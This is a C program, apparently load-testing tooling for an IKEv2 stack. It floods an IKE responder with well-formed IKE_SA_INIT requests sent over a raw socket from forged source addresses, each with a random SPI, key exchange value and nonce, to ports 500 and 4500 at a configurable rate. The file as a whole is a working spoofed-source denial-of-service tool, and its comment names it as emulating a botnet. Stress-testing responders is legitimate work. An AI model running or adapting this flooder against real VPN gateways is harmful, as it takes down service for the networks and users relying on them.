/* SPDX-License-Identifier: MIT */
/*
 * IKE_SA_INIT requests from everywhere: whole, acceptable requests, each from another source
 * address, with another SPI, key exchange value and nonce, to ports 500 and 4500 in turn.
 *
 * Purpose: what a botnet, or one host in a network that lets forged sources out, can do to a
 * responder.  Packets leave by a raw socket with IP headers of our own.  Every batch is due at a
 * point in time; what was sent is printed as JSON.  The numbers are of a generator with a seed: a
 * run can be repeated.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include "base/addr.h"
#include "base/clock.h"
#include "base/mem.h"
#include "wire/ike.h"
#include "wire/ip.h"

#define BATCH	   64u
#define PACKET_MAX 512u
#define KE_LEN	   32u
#define NONCE_LEN  32u
#define GROUP	   31 /* x25519: any octets are a public value */
#define NSEC_PER_S 1000000000ull
#define TTL	   64

struct flood {
	int fd;
	uint64_t state;
	struct addr to;
	struct prefix from;
	uint16_t ports[2];
	/* The request, and what is new in each: behind the marker on port 4500. */
	uint8_t request[PACKET_MAX];
	size_t len, ke_at, nonce_at;
	uint64_t sent, refused;
};

static void die(const char *what)
{
	fprintf(stderr, "ike_flood: %s: %s\n", what, strerror(errno));
	exit(1);
}

static uint64_t random_next(struct flood *f)
{
	f->state ^= f->state >> 12;
	f->state ^= f->state << 25;
	f->state ^= f->state >> 27;
	return f->state * 0x2545f4914f6cdd1dull;
}

static void random_fill(struct flood *f, uint8_t *out, size_t len)
{
	for (size_t i = 0; i < len; i += sizeof(uint64_t)) {
		uint64_t r = random_next(f);
		memcpy(out + i, &r, len - i < sizeof(r) ? len - i : sizeof(r));
	}
}

/* --- the request */

static void put_offer(struct ike_builder *b)
{
	/* AES-GCM-16 with 128 bits, PRF HMAC-SHA2-256, x25519. */
	struct ike_proposals p = {.count = 1};
	p.at[0] = (struct ike_proposal){
	    .number = 1,
	    .protocol = IKE_PROTO_IKE,
	    .count = 3,
	    .at = {{.type = IKE_TRANSFORM_ENCR, .id = 20, .key_bits = 128},
		   {.type = IKE_TRANSFORM_PRF, .id = 5},
		   {.type = IKE_TRANSFORM_DH, .id = GROUP}},
	};
	ike_put_sa(b, &p);
}

static void request_make(struct flood *f)
{
	static const uint8_t zeros[KE_LEN];
	struct ike_header h = {.spi_i = {1},
			       .version = IKE_VERSION,
			       .exchange = IKE_SA_INIT,
			       .flags = IKE_FLAG_INITIATOR};
	struct ike_payloads p;
	struct ike_ke ke;
	struct ike_builder b = ike_builder_of(f->request, sizeof(f->request), &h);
	put_offer(&b);
	ike_put_ke(&b, GROUP, zeros, KE_LEN);
	ike_put_bytes(&b, IKE_PAYLOAD_NONCE, zeros, NONCE_LEN);
	ike_put_notify(&b, IKE_N_NAT_DETECTION_SOURCE_IP, zeros, 20);
	ike_put_notify(&b, IKE_N_NAT_DETECTION_DESTINATION_IP, zeros, 20);
	ike_put_notify(&b, IKE_N_FRAGMENTATION_SUPPORTED, NULL, 0);
	f->len = ike_builder_finish(&b);
	if (!f->len || !ike_read_header(f->request, f->len, &h) ||
	    ike_read_payloads(h.next, f->request + IKE_HEADER_LEN, f->len - IKE_HEADER_LEN, &p) !=
		IKE_OK ||
	    !ike_read_ke(ike_find_payload(&p, IKE_PAYLOAD_KE), &ke))
		die("the request");
	f->ke_at = (size_t)(ke.data - f->request);
	f->nonce_at = (size_t)(ike_find_payload(&p, IKE_PAYLOAD_NONCE)->body - f->request);
}

static struct addr source_next(struct flood *f)
{
	uint32_t net, host = (uint32_t)random_next(f);
	memcpy(&net, f->from.addr.b, sizeof(net));
	uint32_t mask = f->from.len ? UINT32_MAX << (32 - f->from.len) : 0;
	net = htonl((ntohl(net) & mask) | (host & ~mask));
	return addr_from_bytes(4, &net);
}

/* Returns its length. */
static size_t packet_make(struct flood *f, uint8_t *p, uint16_t port)
{
	size_t marker = port == f->ports[1] ? IKE_NON_ESP_LEN : 0;
	size_t udp_len = UDP_HEADER_LEN + marker + f->len;
	struct addr from = source_next(f);
	size_t ip_len =
	    ip_write_header(p, PACKET_MAX, &from, &f->to, IP_PROTO_UDP, 0, TTL, udp_len);
	struct writer w = writer_of(p + ip_len, PACKET_MAX - ip_len);
	writer_u16(&w, (uint16_t)(1024 + random_next(f) % 60000));
	writer_u16(&w, port);
	writer_u16(&w, (uint16_t)udp_len);
	writer_u16(&w, 0); /* no checksum (RFC 768) */
	writer_zero(&w, marker);
	uint8_t *ike = p + ip_len + writer_len(&w);
	writer_bytes(&w, f->request, f->len);
	if (w.failed)
		die("a packet");
	random_fill(f, ike, IKE_SPI_LEN);
	ike[0] |= 1; /* never 0 */
	random_fill(f, ike + f->ke_at, KE_LEN);
	random_fill(f, ike + f->nonce_at, NONCE_LEN);
	return ip_len + udp_len;
}

/* --- sending */

static void send_batch(struct flood *f)
{
	static uint8_t data[BATCH][PACKET_MAX];
	struct mmsghdr msgs[BATCH] = {0};
	struct iovec iov[BATCH];
	struct sockaddr_in to = {.sin_family = AF_INET};
	unsigned done = 0;

	memcpy(&to.sin_addr, f->to.b, 4);
	for (unsigned i = 0; i < BATCH; i++) {
		iov[i] = (struct iovec){data[i], packet_make(f, data[i], f->ports[i % 2])};
		msgs[i].msg_hdr = (struct msghdr){.msg_name = &to,
						  .msg_namelen = sizeof(to),
						  .msg_iov = &iov[i],
						  .msg_iovlen = 1};
	}
	while (done < BATCH) {
		int n = sendmmsg(f->fd, msgs + done, BATCH - done, 0);
		if (n <= 0) {
			f->refused++;
			n = 1;
		} else {
			f->sent += (uint64_t)n;
		}
		done += (unsigned)n;
	}
}

static uint64_t now_ns(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * NSEC_PER_S + (uint64_t)ts.tv_nsec;
}

static void run(struct flood *f, double rate, double seconds)
{
	uint64_t start = now_ns(), batches = 0, end = start + (uint64_t)(seconds * 1e9), due;
	for (;;) {
		due = start + (uint64_t)((double)(batches * BATCH) * 1e9 / rate);
		if (due >= end)
			break;
		struct timespec ts = {(time_t)(due / NSEC_PER_S), (long)(due % NSEC_PER_S)};
		while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &ts, NULL) == EINTR)
			;
		/* A machine that cannot keep up sends less, not longer. */
		if (now_ns() >= end)
			break;
		send_batch(f);
		batches++;
	}
	printf("{\"sent\": %llu, \"refused\": %llu, \"seconds\": %.3f}\n",
	       (unsigned long long)f->sent, (unsigned long long)f->refused,
	       (double)(now_ns() - start) / 1e9);
}

static _Noreturn void usage(void)
{
	fputs("usage: ike_flood --to ADDR --from PREFIX [--rate PER_S] [--seconds N] [--seed N]\n",
	      stderr);
	exit(2);
}

int main(int argc, char **argv)
{
	static const struct option options[] = {
	    {"to", 1, NULL, 't'},      {"from", 1, NULL, 'f'}, {"rate", 1, NULL, 'r'},
	    {"seconds", 1, NULL, 's'}, {"seed", 1, NULL, 'S'}, {NULL, 0, NULL, 0},
	};
	struct flood f = {.state = 0x9e3779b97f4a7c15ull, .ports = {500, 4500}};
	double rate = 50000, seconds = 5;
	int c, size = 8 << 20;

	while ((c = getopt_long(argc, argv, "", options, NULL)) != -1) {
		switch (c) {
		case 't':
			if (addr_parse(optarg, &f.to) || f.to.family != 4)
				usage();
			break;
		case 'f':
			if (prefix_parse(optarg, &f.from) || f.from.addr.family != 4)
				usage();
			break;
		case 'r':
			rate = strtod(optarg, NULL);
			break;
		case 's':
			seconds = strtod(optarg, NULL);
			break;
		case 'S':
			f.state ^= strtoull(optarg, NULL, 0) * 0x2545f4914f6cdd1dull;
			break;
		default:
			usage();
		}
	}
	if (!f.to.family || !f.from.addr.family || optind != argc || !(rate > 0) || f.state == 0)
		usage();
	request_make(&f);
	f.fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (f.fd < 0)
		die("socket");
	(void)setsockopt(f.fd, SOL_SOCKET, SO_SNDBUFFORCE, &size, sizeof(size));
	run(&f, rate, seconds);
	return 0;
}
